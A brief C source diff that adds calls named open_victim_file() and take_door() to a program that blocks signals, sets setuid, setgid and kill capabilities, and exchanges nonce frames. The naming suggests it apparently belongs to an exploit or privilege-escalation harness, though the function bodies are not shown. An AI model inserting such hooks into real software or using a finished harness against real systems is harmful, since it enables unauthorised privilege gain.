@@ -26,6 +26,8 @@ static void settle(void) {
   sigfillset(&all);
   sigprocmask(SIG_BLOCK, &all, NULL);
 
+  open_victim_file();
+
   struct __user_cap_header_struct head = {.version = _LINUX_CAPABILITY_VERSION_3};
   struct __user_cap_data_struct caps[2] = {{0}};
   caps[0].effective = caps[0].permitted = 1u << CAP_SETUID | 1u << CAP_SETGID | 1u << CAP_KILL;
@@ -104,6 +106,7 @@ int main(void) {
         if (frame.length != sizeof nonce) _exit(1);
         read_exactly(nonce, sizeof nonce);
         set_nonce(nonce);
+        take_door();
         uint8_t facts = (uint8_t)have_cpu_counter();
         struct piece piece = {&facts, 1};
         write_frame('R', &piece, 1);
